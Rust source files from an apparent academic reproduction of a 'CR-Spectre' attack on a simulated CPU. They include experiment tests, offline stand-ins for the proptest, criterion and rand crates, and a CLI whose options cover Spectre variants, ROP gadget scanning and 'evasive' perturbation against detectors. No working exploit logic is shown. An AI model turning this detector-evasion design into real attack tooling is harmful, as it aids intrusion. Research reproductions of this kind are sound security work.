    }
}

#[test]
fn fig5_driver_produces_full_series_for_every_detector() {
    let cfg = CampaignConfig::smoke();
    assert_series_grid(&fig5(&cfg), cfg.attempts, "fig5");
}

#[test]
fn fig6_driver_produces_full_series_for_every_detector() {
    let cfg = CampaignConfig::smoke();
    assert_series_grid(&fig6(&cfg), cfg.attempts, "fig6");
}

#[test]
fn table1_overheads_are_finite_and_ipcs_positive() {
    let rows = table1(&CampaignConfig::smoke(), 1);
    assert_eq!(rows.len(), Mibench::TABLE1_ROWS.len(), "one row per Table-I benchmark");
    for (row, &host) in rows.iter().zip(&Mibench::TABLE1_ROWS) {
        assert_eq!(row.host, host);
        for (what, ipc) in [
            ("original", row.ipc_original),
            ("offline", row.ipc_offline),
            ("online", row.ipc_online),
        ] {
            assert!(ipc.is_finite() && ipc > 0.0, "{host} {what}: IPC {ipc}");
        }
        assert!(row.overhead_offline().is_finite(), "{host}: offline overhead");
        assert!(row.overhead_online().is_finite(), "{host}: online overhead");
    }
}

#[test]
fn campaign_results_do_not_depend_on_thread_count() {
    // The engine's contract, checked here through the public façade (the
    // full per-driver matrix lives in crates/core/tests/).
    let serial = CampaignConfig { threads: 1, ..CampaignConfig::smoke() };
    let parallel = CampaignConfig { threads: 4, ..CampaignConfig::smoke() };
    assert_eq!(
        format!("{:?}", table1(&serial, 1)),
        format!("{:?}", table1(&parallel, 1)),
        "table1 must be bit-identical at every thread count"
    );
}

//! Offline stand-in for the [`proptest`](https://crates.io/crates/proptest)
//! crate, implementing the strategy/macro subset this workspace uses.
//!
//! The build environment has no network access, so property tests run on
//! this vendored engine instead of crates.io proptest. Differences from
//! upstream, by design:
//!
//! * **Deterministic cases.** Every test case's RNG is seeded from the
//!   test's fully-qualified name and the case index, so failures
//!   reproduce exactly on every run and machine (no persistence files,
//!   no OS entropy).
//! * **No shrinking.** A failing case reports the case index and the
//!   assertion message; inputs are reproducible from the seed, so
//!   shrinking is a convenience we forgo for zero dependencies.
//! * **Default cases = 64** (upstream: 256), overridable per block with
//!   `#![proptest_config(ProptestConfig::with_cases(n))]` or globally
//!   with the `PROPTEST_CASES` environment variable.

#![warn(missing_docs)]

pub mod array;
pub mod collection;
pub mod strategy;
pub mod test_runner;

/// The customary glob import, mirroring upstream's `proptest::prelude::*`.
pub mod prelude {
    pub use crate::strategy::{any, Just, Strategy};
    pub use crate::test_runner::ProptestConfig;
    pub use crate::{prop_assert, prop_assert_eq, prop_assert_ne, prop_oneof, proptest};
}

/// Declares a block of property tests.
///
/// Each `#[test] fn name(arg in strategy, ...) { body }` item expands to
/// a normal `#[test]` that samples its arguments `cases` times and runs
/// the body on each sample. An optional leading
/// `#![proptest_config(expr)]` sets the configuration for the block.
#[macro_export]
macro_rules! proptest {
    (#![proptest_config($cfg:expr)] $($rest:tt)*) => {
        $crate::__proptest_each! { ($cfg) $($rest)* }
    };
    ($($rest:tt)*) => {
        $crate::__proptest_each! {
            ($crate::test_runner::ProptestConfig::default()) $($rest)*
        }
    };
}

/// Implementation detail of [`proptest!`].
#[macro_export]
#[doc(hidden)]
macro_rules! __proptest_each {
    (($cfg:expr) $($(#[$meta:meta])* fn $name:ident(
        $($arg:pat in $strat:expr),+ $(,)?
    ) $body:block)*) => {
        $(
            $(#[$meta])*
            fn $name() {
                let config: $crate::test_runner::ProptestConfig = $cfg;
                for case in 0..config.cases {
                    let mut rng = $crate::test_runner::case_rng(
                        concat!(module_path!(), "::", stringify!($name)),
                        case,
                    );
                    $(let $arg =
                        $crate::strategy::Strategy::sample(&($strat), &mut rng);)+
                    let outcome: ::std::result::Result<
                        (),
                        $crate::test_runner::TestCaseError,
                    > = (|| {
                        $body
                        ::std::result::Result::Ok(())
                    })();
                    if let ::std::result::Result::Err(err) = outcome {
                        ::std::panic!(
                            "property `{}` failed at case {}/{}: {}",
                            stringify!($name),
                            case + 1,
                            config.cases,
                            err
                        );
                    }
                }
            }
        )*
    };
}

/// Fallible assertion inside a [`proptest!`] body.
#[macro_export]
macro_rules! prop_assert {
    ($cond:expr $(,)?) => {
        $crate::prop_assert!($cond, "assertion failed: {}", stringify!($cond))
    };
    ($cond:expr, $($fmt:tt)+) => {
        if !$cond {
            return ::std::result::Result::Err(
                $crate::test_runner::TestCaseError::fail(format!($($fmt)+)),
            );
        }
    };
}

/// Fallible equality assertion inside a [`proptest!`] body.
#[macro_export]
macro_rules! prop_assert_eq {
    ($left:expr, $right:expr $(,)?) => {{
        let (left, right) = (&$left, &$right);
        $crate::prop_assert!(
            *left == *right,
            "assertion failed: `{:?}` == `{:?}`",
            left,
            right
        );
    }};
    ($left:expr, $right:expr, $($fmt:tt)+) => {{
        let (left, right) = (&$left, &$right);
        $crate::prop_assert!(
            *left == *right,
            "{}: `{:?}` == `{:?}`",
            format!($($fmt)+),
            left,
            right
        );
    }};
}

/// Fallible inequality assertion inside a [`proptest!`] body.
#[macro_export]
macro_rules! prop_assert_ne {
    ($left:expr, $right:expr $(,)?) => {{
        let (left, right) = (&$left, &$right);
        $crate::prop_assert!(
            *left != *right,
            "assertion failed: `{:?}` != `{:?}`",
            left,
            right
        );
    }};
    ($left:expr, $right:expr, $($fmt:tt)+) => {{
        let (left, right) = (&$left, &$right);
        $crate::prop_assert!(
            *left != *right,
            "{}: `{:?}` != `{:?}`",
            format!($($fmt)+),
            left,
            right
        );
    }};
}

/// Picks uniformly among several strategies producing the same value
/// type (upstream's weighted union, without weights).
#[macro_export]
macro_rules! prop_oneof {
    ($($strategy:expr),+ $(,)?) => {
        $crate::strategy::Union::new(::std::vec![
            $($crate::strategy::Strategy::boxed($strategy)),+
        ])
    };
}

//! Fixed-size array strategies.

use rand::rngs::StdRng;

use crate::strategy::Strategy;

/// The strategy behind the `uniformN` constructors.
#[derive(Debug, Clone)]
pub struct UniformArray<S, const N: usize> {
    element: S,
}

impl<S: Strategy, const N: usize> Strategy for UniformArray<S, N> {
    type Value = [S::Value; N];

    fn sample(&self, rng: &mut StdRng) -> [S::Value; N] {
        std::array::from_fn(|_| self.element.sample(rng))
    }
}

macro_rules! uniform_ctor {
    ($($name:ident : $n:literal),+ $(,)?) => {$(
        /// Generates an array whose elements are all drawn from the
        /// given strategy.
        pub fn $name<S: Strategy>(element: S) -> UniformArray<S, $n> {
            UniformArray { element }
        }
    )+};
}

uniform_ctor!(
    uniform1: 1, uniform2: 2, uniform3: 3, uniform4: 4,
    uniform8: 8, uniform16: 16, uniform32: 32,
);

//! Case execution support: configuration, per-case RNG derivation and
//! the failure type `prop_assert!` returns.

use rand::rngs::StdRng;
use rand::SeedableRng;

/// How many cases the default configuration runs (upstream: 256; this
/// engine trades cases for wall-clock since every case is reproducible).
pub const DEFAULT_CASES: u32 = 64;

/// Per-block property-test configuration.
#[derive(Debug, Clone)]
pub struct ProptestConfig {
    /// Number of sampled cases per property.
    pub cases: u32,
}

impl ProptestConfig {
    /// A configuration running `cases` cases per property.
    pub fn with_cases(cases: u32) -> ProptestConfig {
        ProptestConfig { cases }
    }
}

impl Default for ProptestConfig {
    fn default() -> ProptestConfig {
        let cases = std::env::var("PROPTEST_CASES")
            .ok()
            .and_then(|v| v.parse().ok())
            .unwrap_or(DEFAULT_CASES);
        ProptestConfig { cases }
    }
}

/// Derives the deterministic RNG for one case of one property: FNV-1a
/// over the qualified test name, mixed with the case index. Stable
/// across runs, processes and machines.
pub fn case_rng(qualified_name: &str, case: u32) -> StdRng {
    let mut hash: u64 = 0xcbf2_9ce4_8422_2325;
    for byte in qualified_name.bytes() {
        hash ^= byte as u64;
        hash = hash.wrapping_mul(0x0000_0100_0000_01b3);
    }
    StdRng::seed_from_u64(hash ^ (case as u64).wrapping_mul(0x9E37_79B9_7F4A_7C15))
}

/// A failed `prop_assert!` — the `Err` payload a property body returns.
#[derive(Debug, Clone)]
pub struct TestCaseError {
    message: String,
}

impl TestCaseError {
    /// Wraps an assertion failure message.
    pub fn fail(message: String) -> TestCaseError {
        TestCaseError { message }
    }
}

impl std::fmt::Display for TestCaseError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.message)
    }
}

impl std::error::Error for TestCaseError {}

//! Collection strategies (`vec`) and the size specification they take.

use std::ops::{Range, RangeInclusive};

use rand::rngs::StdRng;
use rand::Rng;

use crate::strategy::Strategy;

/// An inclusive length range for generated collections.
#[derive(Debug, Clone, Copy)]
pub struct SizeRange {
    min: usize,
    max: usize,
}

impl SizeRange {
    fn sample(&self, rng: &mut StdRng) -> usize {
        if self.min >= self.max {
            self.min
        } else {
            rng.random_range(self.min..self.max + 1)
        }
    }
}

impl From<usize> for SizeRange {
    fn from(exact: usize) -> SizeRange {
        SizeRange { min: exact, max: exact }
    }
}

impl From<Range<usize>> for SizeRange {
    fn from(range: Range<usize>) -> SizeRange {
        assert!(range.start < range.end, "empty collection size range");
        SizeRange { min: range.start, max: range.end - 1 }
    }
}

impl From<RangeInclusive<usize>> for SizeRange {
    fn from(range: RangeInclusive<usize>) -> SizeRange {
        SizeRange { min: *range.start(), max: *range.end() }
    }
}

/// Generates a `Vec` whose length is drawn from `size` and whose
/// elements are drawn from `element`.
pub fn vec<S: Strategy>(element: S, size: impl Into<SizeRange>) -> VecStrategy<S> {
    VecStrategy { element, size: size.into() }
}

/// The strategy returned by [`vec`].
#[derive(Debug, Clone)]
pub struct VecStrategy<S> {
    element: S,
    size: SizeRange,
}

impl<S: Strategy> Strategy for VecStrategy<S> {
    type Value = Vec<S::Value>;

    fn sample(&self, rng: &mut StdRng) -> Vec<S::Value> {
        let len = self.size.sample(rng);
        (0..len).map(|_| self.element.sample(rng)).collect()
    }
}

//! Value-generation strategies: the sampling core of the vendored engine.

use std::marker::PhantomData;
use std::ops::Range;

use rand::rngs::StdRng;
use rand::Rng;

/// A recipe for generating values of one type.
///
/// Upstream proptest separates strategies from value trees to support
/// shrinking; this engine samples directly.
pub trait Strategy {
    /// The type of generated values.
    type Value;

    /// Draws one value.
    fn sample(&self, rng: &mut StdRng) -> Self::Value;

    /// Maps generated values through `f`.
    fn prop_map<U, F>(self, f: F) -> Map<Self, F>
    where
        Self: Sized,
        F: Fn(Self::Value) -> U,
    {
        Map { inner: self, f }
    }

    /// Erases the concrete strategy type (used by [`prop_oneof!`](crate::prop_oneof)).
    fn boxed(self) -> BoxedStrategy<Self::Value>
    where
        Self: Sized + 'static,
    {
        Box::new(self)
    }
}

/// A type-erased strategy.
pub type BoxedStrategy<T> = Box<dyn Strategy<Value = T>>;

impl<T> Strategy for BoxedStrategy<T> {
    type Value = T;

    fn sample(&self, rng: &mut StdRng) -> T {
        (**self).sample(rng)
    }
}

impl<S: Strategy + ?Sized> Strategy for &S {
    type Value = S::Value;

    fn sample(&self, rng: &mut StdRng) -> S::Value {
        (**self).sample(rng)
    }
}

/// Always produces a clone of the given value.
#[derive(Debug, Clone)]
pub struct Just<T: Clone>(pub T);

impl<T: Clone> Strategy for Just<T> {
    type Value = T;

    fn sample(&self, _rng: &mut StdRng) -> T {
        self.0.clone()
    }
}

/// The [`Strategy::prop_map`] adapter.
#[derive(Debug, Clone)]
pub struct Map<S, F> {
    inner: S,
    f: F,
}

impl<S, U, F> Strategy for Map<S, F>
where
    S: Strategy,
    F: Fn(S::Value) -> U,
{
    type Value = U;

    fn sample(&self, rng: &mut StdRng) -> U {
        (self.f)(self.inner.sample(rng))
    }
}

/// Uniform choice among boxed strategies of a common value type.
pub struct Union<T> {
    options: Vec<BoxedStrategy<T>>,
}

impl<T> Union<T> {
    /// Builds the union; `options` must be non-empty.
    pub fn new(options: Vec<BoxedStrategy<T>>) -> Union<T> {
        assert!(!options.is_empty(), "prop_oneof! needs at least one option");
        Union { options }
    }
}

impl<T> std::fmt::Debug for Union<T> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "Union({} options)", self.options.len())
    }
}

impl<T> Strategy for Union<T> {
    type Value = T;

    fn sample(&self, rng: &mut StdRng) -> T {
        let index = rng.random_range(0..self.options.len());
        self.options[index].sample(rng)
    }
}

/// Types with a canonical "any value" strategy.
pub trait Arbitrary: Sized {
    /// Draws an unconstrained value.
    fn arbitrary(rng: &mut StdRng) -> Self;
}

/// The strategy returned by [`any`].
pub struct Any<T>(PhantomData<T>);

impl<T> std::fmt::Debug for Any<T> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "Any<{}>", std::any::type_name::<T>())
    }
}

/// Generates any value of `T` (full domain, uniform).
pub fn any<T: Arbitrary>() -> Any<T> {
    Any(PhantomData)
}

impl<T: Arbitrary> Strategy for Any<T> {
    type Value = T;

    fn sample(&self, rng: &mut StdRng) -> T {
        T::arbitrary(rng)
    }
}

macro_rules! impl_arbitrary_int {
    ($($t:ty),*) => {$(
        impl Arbitrary for $t {
            fn arbitrary(rng: &mut StdRng) -> $t {
                use rand::RngCore;
                rng.next_u64() as $t
            }
        }
    )*};
}

impl_arbitrary_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

impl Arbitrary for u128 {
    fn arbitrary(rng: &mut StdRng) -> u128 {
        use rand::RngCore;
        (rng.next_u64() as u128) << 64 | rng.next_u64() as u128
    }
}

impl Arbitrary for i128 {
    fn arbitrary(rng: &mut StdRng) -> i128 {
        u128::arbitrary(rng) as i128
    }
}

impl Arbitrary for bool {
    fn arbitrary(rng: &mut StdRng) -> bool {
        use rand::RngCore;
        rng.next_u64() & 1 == 1
    }
}

macro_rules! impl_range_strategy_int {
    ($($t:ty),*) => {$(
        impl Strategy for Range<$t> {
            type Value = $t;

            fn sample(&self, rng: &mut StdRng) -> $t {
                rng.random_range(self.clone())
            }
        }
    )*};
}

impl_range_strategy_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

macro_rules! impl_range_strategy_float {
    ($($t:ty),*) => {$(
        impl Strategy for Range<$t> {
            type Value = $t;

            fn sample(&self, rng: &mut StdRng) -> $t {
                rng.random_range(self.clone())
            }
        }
    )*};
}

impl_range_strategy_float!(f32, f64);

macro_rules! impl_tuple_strategy {
    ($($S:ident : $idx:tt),+) => {
        impl<$($S: Strategy),+> Strategy for ($($S,)+) {
            type Value = ($($S::Value,)+);

            fn sample(&self, rng: &mut StdRng) -> Self::Value {
                ($(self.$idx.sample(rng),)+)
            }
        }
    };
}

impl_tuple_strategy!(A: 0);
impl_tuple_strategy!(A: 0, B: 1);
impl_tuple_strategy!(A: 0, B: 1, C: 2);
impl_tuple_strategy!(A: 0, B: 1, C: 2, D: 3);
impl_tuple_strategy!(A: 0, B: 1, C: 2, D: 3, E: 4);
impl_tuple_strategy!(A: 0, B: 1, C: 2, D: 3, E: 4, F: 5);
impl_tuple_strategy!(A: 0, B: 1, C: 2, D: 3, E: 4, F: 5, G: 6);
impl_tuple_strategy!(A: 0, B: 1, C: 2, D: 3, E: 4, F: 5, G: 6, H: 7);

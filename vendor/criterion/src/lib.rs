//! Offline stand-in for the [`criterion`](https://crates.io/crates/criterion)
//! benchmark harness.
//!
//! Implements the builder/macro surface the workspace's benches use —
//! [`Criterion::bench_function`], [`Criterion::benchmark_group`],
//! `sample_size`, [`Bencher::iter`], [`criterion_group!`],
//! [`criterion_main!`] — over a plain wall-clock timer. No statistics,
//! plots or comparison files: each benchmark runs one warm-up iteration
//! plus `sample_size` timed iterations (default 10) and prints the mean,
//! minimum and total. Passing `--test` (as `cargo test --benches` does)
//! reduces every benchmark to a single iteration smoke run.

#![warn(missing_docs)]

use std::time::{Duration, Instant};

/// The top-level harness handle passed to every benchmark function.
#[derive(Debug)]
pub struct Criterion {
    sample_size: usize,
    test_mode: bool,
}

impl Default for Criterion {
    fn default() -> Criterion {
        let test_mode = std::env::args().any(|a| a == "--test");
        Criterion { sample_size: 10, test_mode }
    }
}

impl Criterion {
    /// Runs a single named benchmark.
    pub fn bench_function<F>(&mut self, name: &str, f: F) -> &mut Criterion
    where
        F: FnMut(&mut Bencher),
    {
        run_one(name, self.effective_samples(), f);
        self
    }

    /// Opens a named group of benchmarks (shared prefix + sample size).
    pub fn benchmark_group(&mut self, name: &str) -> BenchmarkGroup<'_> {
        BenchmarkGroup {
            criterion: self,
            name: name.to_string(),
            sample_size: None,
        }
    }

    fn effective_samples(&self) -> usize {
        if self.test_mode {
            1
        } else {
            self.sample_size
        }
    }
}

/// A group of related benchmarks, as returned by
/// [`Criterion::benchmark_group`].
#[derive(Debug)]
pub struct BenchmarkGroup<'a> {
    criterion: &'a mut Criterion,
    name: String,
    /// `None` falls back to the parent [`Criterion`]'s sample size.
    sample_size: Option<usize>,
}

impl BenchmarkGroup<'_> {
    /// Sets the number of timed iterations per benchmark in this group.
    pub fn sample_size(&mut self, n: usize) -> &mut Self {
        self.sample_size = Some(n);
        self
    }

    /// Runs one benchmark within the group.
    pub fn bench_function<F>(&mut self, name: &str, f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        let samples = if self.criterion.test_mode {
            1
        } else {
            self.sample_size.unwrap_or(self.criterion.sample_size)
        };
        run_one(&format!("{}/{}", self.name, name), samples, f);
        self
    }

    /// Ends the group (no-op; exists for API compatibility).
    pub fn finish(self) {}
}

/// The per-benchmark timing handle.
#[derive(Debug, Default)]
pub struct Bencher {
    samples: Vec<Duration>,
    pending: usize,
}

impl Bencher {
    /// Times `routine`: one warm-up call, then `pending` timed calls.
    pub fn iter<R, F: FnMut() -> R>(&mut self, mut routine: F) {
        std::hint::black_box(routine());
        for _ in 0..self.pending {
            let start = Instant::now();
            std::hint::black_box(routine());
            self.samples.push(start.elapsed());
        }
    }
}

/// Upstream-style name filter: `cargo bench -- <substring>` runs only
/// the benchmarks whose full name contains the substring.
fn matches_filter(name: &str) -> bool {
    let filters: Vec<String> = std::env::args()
        .skip(1)
        .filter(|a| !a.starts_with("--") && !a.starts_with('-'))
        .collect();
    filters.is_empty() || filters.iter().any(|f| name.contains(f.as_str()))
}

fn run_one<F: FnMut(&mut Bencher)>(name: &str, samples: usize, mut f: F) {
    if !matches_filter(name) {
        return;
    }
    let mut bencher = Bencher { samples: Vec::new(), pending: samples };
    f(&mut bencher);
    if bencher.samples.is_empty() {
        println!("{name:<44} (no samples)");
        return;
    }
    let total: Duration = bencher.samples.iter().sum();
    let mean = total / bencher.samples.len() as u32;
    let min = bencher.samples.iter().min().expect("non-empty");
    println!(
        "{name:<44} mean {mean:>12?}   min {min:>12?}   ({} iters, total {total:?})",
        bencher.samples.len()
    );
}

/// Groups benchmark functions under one name, mirroring upstream.
#[macro_export]
macro_rules! criterion_group {
    ($group:ident, $($target:path),+ $(,)?) => {
        pub fn $group() {
            let mut criterion = $crate::Criterion::default();
            $($target(&mut criterion);)+
        }
    };
}

/// Emits `main` running the given groups, mirroring upstream.
#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            $($group();)+
        }
    };
}

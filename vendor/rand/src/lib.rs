//! Offline stand-in for the [`rand`](https://crates.io/crates/rand)
//! crate (0.9 API subset).
//!
//! The build environment has no network access, so the workspace vendors
//! the exact surface it consumes: [`RngCore`], [`Rng::random_range`],
//! [`SeedableRng::seed_from_u64`], [`rngs::StdRng`] and
//! [`seq::SliceRandom::shuffle`]. Everything is fully deterministic per
//! seed — there is no OS entropy anywhere — which is a feature here: the
//! campaign engine's serial-vs-parallel equivalence tests rely on seeded
//! reproducibility.
//!
//! `StdRng` is xoshiro256++ (Blackman & Vigna), seeded through a
//! splitmix64 expansion of the `u64` seed, the construction the xoshiro
//! authors recommend. It is *not* the upstream ChaCha12 generator, so
//! streams differ from crates.io `rand` — irrelevant for this workspace,
//! which never pins stream values, only reproducibility.

#![warn(missing_docs)]

use std::ops::Range;

/// Low-level generator interface: a source of raw random words.
pub trait RngCore {
    /// Returns the next random `u64`.
    fn next_u64(&mut self) -> u64;

    /// Returns the next random `u32` (high bits of [`next_u64`](Self::next_u64)).
    fn next_u32(&mut self) -> u32 {
        (self.next_u64() >> 32) as u32
    }

    /// Fills `dest` with random bytes.
    fn fill_bytes(&mut self, dest: &mut [u8]) {
        for chunk in dest.chunks_mut(8) {
            let word = self.next_u64().to_le_bytes();
            chunk.copy_from_slice(&word[..chunk.len()]);
        }
    }
}

impl<R: RngCore + ?Sized> RngCore for &mut R {
    fn next_u64(&mut self) -> u64 {
        (**self).next_u64()
    }
}

/// User-level generator interface: typed sampling on top of [`RngCore`].
pub trait Rng: RngCore {
    /// Samples a value uniformly from `range` (half-open, `low..high`).
    fn random_range<T, R>(&mut self, range: R) -> T
    where
        R: SampleRange<T>,
        Self: Sized,
    {
        range.sample_from(self)
    }
}

impl<R: RngCore + ?Sized> Rng for R {}

/// A range that knows how to draw a uniform sample from itself.
pub trait SampleRange<T> {
    /// Draws one uniform sample.
    fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> T;
}

macro_rules! impl_sample_range_int {
    ($($t:ty),*) => {$(
        impl SampleRange<$t> for Range<$t> {
            fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> $t {
                assert!(self.start < self.end, "cannot sample empty range");
                // Width fits in u64 for every supported type (including
                // full-width i64/u64 ranges via wrapping arithmetic).
                let span = (self.end as i128 - self.start as i128) as u64;
                let value = if span == 0 {
                    // Span of 2^64 (only reachable for 64-bit types over
                    // their full domain): any word is in range.
                    rng.next_u64()
                } else {
                    // Multiply-shift bounded sampling (Lemire); bias is
                    // ≤ span/2^64 and determinism is what matters here.
                    (((rng.next_u64() as u128) * (span as u128)) >> 64) as u64
                };
                (self.start as i128 + value as i128) as $t
            }
        }
    )*};
}

impl_sample_range_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

macro_rules! impl_sample_range_float {
    ($($t:ty),*) => {$(
        impl SampleRange<$t> for Range<$t> {
            fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> $t {
                assert!(self.start < self.end, "cannot sample empty range");
                // 53 (resp. 24) high bits → uniform in [0, 1).
                let unit = (rng.next_u64() >> 11) as $t / (1u64 << 53) as $t;
                self.start + unit * (self.end - self.start)
            }
        }
    )*};
}

impl_sample_range_float!(f64, f32);

/// Seedable generators.
pub trait SeedableRng: Sized {
    /// Constructs the generator from a `u64` seed, deterministically.
    fn seed_from_u64(seed: u64) -> Self;
}

/// The splitmix64 step: advances `state` and returns the next output.
pub(crate) fn splitmix64(state: &mut u64) -> u64 {
    *state = state.wrapping_add(0x9E37_79B9_7F4A_7C15);
    let mut z = *state;
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

/// Concrete generators.
pub mod rngs {
    use super::{splitmix64, RngCore, SeedableRng};

    /// The workspace's standard generator: xoshiro256++.
    #[derive(Debug, Clone)]
    pub struct StdRng {
        s: [u64; 4],
    }

    impl SeedableRng for StdRng {
        fn seed_from_u64(seed: u64) -> StdRng {
            let mut state = seed;
            let mut s = [0u64; 4];
            for word in &mut s {
                *word = splitmix64(&mut state);
            }
            StdRng { s }
        }
    }

    impl RngCore for StdRng {
        fn next_u64(&mut self) -> u64 {
            let result = self.s[0]
                .wrapping_add(self.s[3])
                .rotate_left(23)
                .wrapping_add(self.s[0]);
            let t = self.s[1] << 17;
            self.s[2] ^= self.s[0];
            self.s[3] ^= self.s[1];
            self.s[1] ^= self.s[2];
            self.s[0] ^= self.s[3];
            self.s[2] ^= t;
            self.s[3] = self.s[3].rotate_left(45);
            result
        }
    }
}

/// Sequence-related helpers.
pub mod seq {
    use super::RngCore;

    /// Extension trait adding random operations on slices.
    pub trait SliceRandom {
        /// Shuffles the slice in place (Fisher–Yates).
        fn shuffle<R: RngCore + ?Sized>(&mut self, rng: &mut R);
    }

    impl<T> SliceRandom for [T] {
        fn shuffle<R: RngCore + ?Sized>(&mut self, rng: &mut R) {
            for i in (1..self.len()).rev() {
                // Multiply-shift bounded draw from [0, i] inclusive.
                let j = (((rng.next_u64() as u128) * (i as u128 + 1)) >> 64) as usize;
                self.swap(i, j);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::rngs::StdRng;
    use super::seq::SliceRandom;
    use super::{Rng, RngCore, SeedableRng};

    #[test]
    fn seeded_streams_reproduce() {
        let mut a = StdRng::seed_from_u64(42);
        let mut b = StdRng::seed_from_u64(42);
        for _ in 0..100 {
            assert_eq!(a.next_u64(), b.next_u64());
        }
        let mut c = StdRng::seed_from_u64(43);
        assert_ne!(StdRng::seed_from_u64(42).next_u64(), c.next_u64());
    }

    #[test]
    fn ranges_stay_in_bounds() {
        let mut rng = StdRng::seed_from_u64(7);
        for _ in 0..1000 {
            let v: i32 = rng.random_range(-5..17);
            assert!((-5..17).contains(&v));
            let f: f64 = rng.random_range(0.0..3.5);
            assert!((0.0..3.5).contains(&f));
            let u: usize = rng.random_range(0..1);
            assert_eq!(u, 0);
        }
    }

    #[test]
    fn range_samples_cover_the_domain() {
        let mut rng = StdRng::seed_from_u64(11);
        let mut seen = [false; 8];
        for _ in 0..400 {
            seen[rng.random_range(0usize..8)] = true;
        }
        assert!(seen.iter().all(|&s| s), "{seen:?}");
    }

    #[test]
    fn shuffle_is_a_permutation_and_seeded() {
        let base: Vec<u32> = (0..50).collect();
        let mut a = base.clone();
        let mut b = base.clone();
        a.shuffle(&mut StdRng::seed_from_u64(9));
        b.shuffle(&mut StdRng::seed_from_u64(9));
        assert_eq!(a, b);
        assert_ne!(a, base, "50 elements virtually never shuffle to identity");
        let mut sorted = a.clone();
        sorted.sort_unstable();
        assert_eq!(sorted, base);
    }

    #[test]
    fn fill_bytes_fills_every_length() {
        let mut rng = StdRng::seed_from_u64(3);
        for len in [0usize, 1, 7, 8, 9, 31] {
            let mut buf = vec![0u8; len];
            rng.fill_bytes(&mut buf);
            if len >= 8 {
                assert!(buf.iter().any(|&b| b != 0));
            }
        }
    }
}

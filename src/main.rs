//! `cr-spectre` — command-line front end for the reproduction.
//!
//! ```text
//! cr-spectre attack   [--host H] [--variant v1|rsb] [--perturb none|paper|evasive]
//!                     [--canary] [--no-clflush] [--evict-reload] [--aslr SEED]
//!                     [--shadow-stack] [--invisispec] [--csf]
//! cr-spectre spectre  [--host H] [--variant v1|rsb]      # standalone launch
//! cr-spectre gadgets  [--host H] [--max-len N] [--limit N]
//! cr-spectre disasm   [--host H] [--symbol S] [--context N]
//! cr-spectre profile  [--app NAME] [--interval N] [--csv PATH]
//! cr-spectre campaign [--artifact fig4|fig5|fig6|table1|all] [--threads N] [--quick]
//! cr-spectre list
//! ```

use std::collections::HashMap;
use std::process::ExitCode;

use cr_spectre::attack::{run_cr_spectre, run_standalone_spectre, AttackConfig};
use cr_spectre::covert::CovertConfig;
use cr_spectre::hpc::export::trace_to_csv_full;
use cr_spectre::hpc::profiler::profile;
use cr_spectre::perturb::PerturbParams;
use cr_spectre::rop::Scanner;
use cr_spectre::sim::config::MachineConfig;
use cr_spectre::sim::cpu::Machine;
use cr_spectre::sim::disasm::{context_around, disassemble_image};
use cr_spectre::spectre::SpectreVariant;
use cr_spectre::workloads::benign::BenignApp;
use cr_spectre::workloads::host::{standalone_image, vulnerable_host, HostOptions, SECRET};
use cr_spectre::workloads::mibench::Mibench;

/// Minimal `--flag value` / `--switch` argument bag.
struct Args {
    values: HashMap<String, String>,
    switches: Vec<String>,
}

impl Args {
    fn parse(raw: &[String]) -> Result<Args, String> {
        let mut values = HashMap::new();
        let mut switches = Vec::new();
        let mut it = raw.iter().peekable();
        while let Some(arg) = it.next() {
            let Some(name) = arg.strip_prefix("--") else {
                return Err(format!("unexpected positional argument {arg:?}"));
            };
            match it.peek() {
                Some(next) if !next.starts_with("--") => {
                    values.insert(name.to_string(), it.next().expect("peeked").clone());
                }
                _ => switches.push(name.to_string()),
            }
        }
        Ok(Args { values, switches })
    }

    fn value(&self, name: &str) -> Option<&str> {
        self.values.get(name).map(String::as_str)
    }

    fn switch(&self, name: &str) -> bool {
        self.switches.iter().any(|s| s == name)
    }
}

fn host_by_name(name: &str) -> Result<Mibench, String> {
    Mibench::ALL
        .into_iter()
        .find(|w| w.name() == name)
        .ok_or_else(|| format!("unknown host {name:?}; see `cr-spectre list`"))
}

fn variant_by_name(name: &str) -> Result<SpectreVariant, String> {
    match name {
        "v1" => Ok(SpectreVariant::V1),
        "rsb" => Ok(SpectreVariant::Rsb),
        other => Err(format!("unknown variant {other:?} (v1 | rsb)")),
    }
}

fn machine_from(args: &Args) -> Result<MachineConfig, String> {
    let mut machine = MachineConfig::default();
    if args.switch("no-fast-path") {
        machine.fast_path = false;
    }
    if args.switch("no-clflush") {
        machine.protect.clflush_enabled = false;
    }
    if args.switch("shadow-stack") {
        machine.protect.shadow_stack = true;
    }
    if args.switch("invisispec") {
        machine.protect.invisispec = true;
    }
    if args.switch("csf") {
        machine.protect.csf = true;
    }
    if let Some(seed) = args.value("aslr") {
        let seed: u64 = seed.parse().map_err(|_| "bad --aslr seed".to_string())?;
        machine.protect.aslr_seed = Some(seed);
    }
    Ok(machine)
}

fn attack_config(args: &Args) -> Result<AttackConfig, String> {
    let host = host_by_name(args.value("host").unwrap_or("bitcount_50m"))?;
    let mut config = AttackConfig::new(host);
    config.machine = machine_from(args)?;
    if let Some(v) = args.value("variant") {
        config.variant = variant_by_name(v)?;
    }
    match args.value("perturb").unwrap_or("none") {
        "none" => {}
        "paper" => config.perturb = Some(PerturbParams::paper_default()),
        "evasive" => config.perturb = Some(PerturbParams::evasive_default()),
        other => return Err(format!("unknown perturbation {other:?} (none | paper | evasive)")),
    }
    if args.switch("canary") {
        config.host_options = HostOptions { canary: true, ..HostOptions::default() };
    }
    if args.switch("evict-reload") {
        config.covert = CovertConfig::evict_reload();
    }
